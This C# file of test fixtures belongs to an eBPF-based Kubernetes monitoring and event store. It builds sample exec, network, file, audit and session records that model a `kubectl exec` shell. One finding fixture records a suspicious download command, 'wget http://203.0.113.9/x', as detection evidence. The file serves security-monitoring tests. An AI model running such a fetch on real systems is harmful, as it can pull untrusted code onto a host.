using Ebpf.Api.V1;
using Google.Protobuf.WellKnownTypes;
using Microsoft.Data.Sqlite;

namespace Ebpf.Store.Tests;

/// <summary>A real store in a fresh temp directory, deleted afterwards.</summary>
internal sealed class TempStoreDirectory : IDisposable
{
    public string Path { get; } = Directory.CreateTempSubdirectory("ebpf-store-test-").FullName;

    public EventStoreOptions Options(Action<EventStoreOptions>? configure = null)
    {
        var options = new EventStoreOptions { DataDirectory = Path, RetentionInterval = TimeSpan.Zero, MaxBatchDelay = TimeSpan.FromMilliseconds(1) };
        configure?.Invoke(options);
        return options;
    }

    public EventStore Open(Action<EventStoreOptions>? configure = null, TimeProvider? time = null) =>
        EventStore.Open(Options(configure), time);

    public string DatabasePath => System.IO.Path.Combine(Path, new EventStoreOptions().FileName);

    /// <summary>A raw connection, as an attacker or a broken disk would touch the file.</summary>
    public SqliteConnection Raw()
    {
        var connection = new SqliteConnection($"Data Source={DatabasePath};Pooling=False");
        connection.Open();
        return connection;
    }

    public int Execute(string sql)
    {
        using var connection = Raw();
        using var command = connection.CreateCommand();
        command.CommandText = sql;
        return command.ExecuteNonQuery();
    }

    public long Scalar(string sql)
    {
        using var connection = Raw();
        using var command = connection.CreateCommand();
        command.CommandText = sql;
        return Convert.ToInt64(command.ExecuteScalar(), System.Globalization.CultureInfo.InvariantCulture);
    }

    public void Dispose()
    {
        SqliteConnection.ClearAllPools();
        try { Directory.Delete(Path, recursive: true); }
        catch (IOException) { }
    }
}

/// <summary>A clock the test moves by hand.</summary>
internal sealed class ManualTime(DateTimeOffset now) : TimeProvider
{
    public DateTimeOffset Now { get; set; } = now;
    public override DateTimeOffset GetUtcNow() => Now;
}

/// <summary>Realistic records: what the agent emits for `kubectl exec -it web-0 -- sh` running cat and wget.</summary>
internal static class Records
{
    public static readonly DateTimeOffset T0 = new(2026, 11, 20, 9, 0, 0, TimeSpan.Zero);

    public static Workload Workload(string ns = "shop", string pod = "web-0") => new()
    {
        Node = "node-a", CgroupId = 4242, Namespace = ns, Pod = pod, PodUid = "7c0b5d8e-1f2a-4c3b-9d4e-5f6a7b8c9d0e",
        ContainerId = "3f9d2c1b0a", ContainerName = "web", QosClass = "burstable", Runtime = "containerd", MetadataAvailable = true,
        CgroupPath = "/kubepods/burstable/pod7c0b5d8e-1f2a-4c3b-9d4e-5f6a7b8c9d0e/3f9d2c1b0a",
    };

    public static Timestamp At(double seconds) => Timestamp.FromDateTimeOffset(T0.AddSeconds(seconds));

    public static Record Exec(string key, string parentKey, int pid, string filename, string[] argv, double at, string sessionId = "", string cwd = "/app") => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload(), SessionId = sessionId,
            Exec = new ExecDetails
            {
                ParentProcessKey = parentKey, Filename = filename, Argv = { argv }, Cwd = cwd, Uid = 1000, Gid = 1000,
                LoginUid = uint.MaxValue, Comm = System.IO.Path.GetFileName(filename),
            },
        },
    };

    public static Record Fork(string parentKey, int parentPid, string childKey, int childPid, double at, string sessionId = "") => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = parentPid, Tid = parentPid, ProcessKey = parentKey, Workload = Workload(), SessionId = sessionId,
            Fork = new ForkDetails { ParentPid = parentPid, ParentProcessKey = parentKey, ChildPid = childPid, ChildProcessKey = childKey },
        },
    };

    public static Record Exit(string key, int pid, double at, int? code, int? signal = null)
    {
        var exit = new ExitDetails { WaitStatus = signal ?? (code ?? 0) << 8 };
        if (code is { } c) exit.ExitCode = c;
        if (signal is { } s) exit.Signal = s;
        return new Record
        {
            Time = At(at),
            NodeEvent = new NodeEvent { Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload(), Exit = exit },
        };
    }

    public static Record Connect(string key, int pid, double at, string address, uint port) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload(),
            Connect = new ConnectDetails { Family = "inet", Address = address, Port = port, Fd = 3, Result = -115 },
        },
    };

    public static Record Open(string key, int pid, double at, string path, int result = 3) => new()
    {
        Time = At(at),
        NodeEvent = new NodeEvent
        {
            Time = At(at), Pid = pid, Tid = pid, ProcessKey = key, Workload = Workload(),
            FileOpen = new FileOpenDetails { Path = path, DirFd = -100, Flags = 0x241, Mode = 0x1a4, Result = result },
        },
    };

    public static Record Session(string id, double at, string user = "alice@example.com", string ns = "shop", string pod = "web-0",
        Confidence confidence = Confidence.Certain, string rootKey = "", double? end = null) => new()
    {
        Time = At(at),
        Session = new Session
        {
            Id = id, Kind = SessionKind.Exec, Confidence = confidence, Reason = "one exec audit event, one new process",
            AuditId = "a-" + id, User = user, Groups = { "system:authenticated" }, SourceIps = { "10.0.0.7" },
            UserAgent = "kubectl/v1.31.0", Verb = "create", Namespace = ns, Pod = pod, Container = "web",
            Command = { "sh" }, Tty = true, Stdin = true, RequestReceived = At(at - 0.2), RootProcessKey = rootKey,
            Workload = Workload(ns, pod), NodeStart = At(at), NodeEnd = end is { } e ? At(e) : null,
        },
    };

    public static Record Audit(string auditId, double at, string ns = "shop", string pod = "web-0", string user = "alice@example.com",
        string stage = "ResponseComplete", string subresource = "exec") => new()
    {
        Time = At(at),
        AuditEvent = new AuditEvent
        {
            AuditId = auditId, Stage = stage, Level = "Metadata", Verb = "create",
            RequestUri = $"/api/v1/namespaces/{ns}/pods/{pod}/{subresource}?command=sh&container=web&stdin=true&tty=true",
            User = new UserInfo { Username = user, Groups = { "system:authenticated" } }, AttributedUser = user,
            SourceIps = { "10.0.0.7" }, UserAgent = "kubectl/v1.31.0", Resource = "pods", Subresource = subresource,
            Namespace = ns, Name = pod, ResponseCode = 101, RequestReceived = At(at - 0.1), StageTimestamp = At(at),
            Container = "web", Command = { "sh" }, Tty = true, Stdin = true,
        },
    };

    public static Record Finding(string id, string kind, double at, string ns = "shop", string pod = "web-0") => new()
    {
        Time = At(at),
        Finding = new Finding
        {
            Id = id, Kind = kind, Severity = Severity.High, Summary = $"{kind} in {ns}/{pod}", Time = At(at),
            Namespace = ns, Pod = pod, User = "alice@example.com", SessionId = "s-1", Evidence = { ["argv"] = "wget http://203.0.113.9/x" },
        },
    };

    public static byte[] RawAuditJson(string auditId) => System.Text.Encoding.UTF8.GetBytes(
        $$"""{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"{{auditId}}","stage":"ResponseComplete","verb":"create"}""");
}
